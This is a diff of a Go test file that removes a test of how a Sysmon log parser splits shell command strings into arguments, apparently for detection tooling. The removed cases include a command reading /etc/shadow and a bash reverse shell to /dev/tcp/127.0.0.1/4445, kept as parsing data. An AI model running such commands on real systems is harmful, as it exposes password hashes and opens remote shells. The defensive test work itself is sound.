@@ -94,25 +94,3 @@ func TestSysmonFixture(t *testing.T) {
 		t.Error("no reverse-shell connect")
 	}
 }
-
-// TestSysmonArgs: a shell's command string is one argument again.
-func TestSysmonArgs(t *testing.T) {
-	cases := []struct{ image, in, want string }{
-		{"/usr/bin/dash", "sh -c cat /etc/shadow 2>&1", `["sh" "-c" "cat /etc/shadow 2>&1"]`},
-		{"/usr/bin/bash", "/bin/bash -lc bash -i >& /dev/tcp/127.0.0.1/4445 0>&1", `["/bin/bash" "-lc" "bash -i >& /dev/tcp/127.0.0.1/4445 0>&1"]`},
-		{"/usr/bin/bash", "bash -c id", `["bash" "-c" "id"]`},
-		{"/usr/bin/bash", "bash -i", `["bash" "-i"]`},
-		{"/usr/bin/bash", "bash /tmp/x.sh -c y", `["bash" "/tmp/x.sh" "-c" "y"]`}, // a script's own -c
-		{"/usr/bin/ps", "ps -ef --forest", `["ps" "-ef" "--forest"]`},
-		{"/usr/bin/dash", "", `[]`},
-	}
-	for _, c := range cases {
-		got := sysmonArgs(c.image, c.in)
-		if got == nil {
-			got = []string{}
-		}
-		if s := fmt.Sprintf("%q", got); s != c.want {
-			t.Errorf("sysmonArgs(%s, %q) = %s, want %s", c.image, c.in, s, c.want)
-		}
-	}
-}
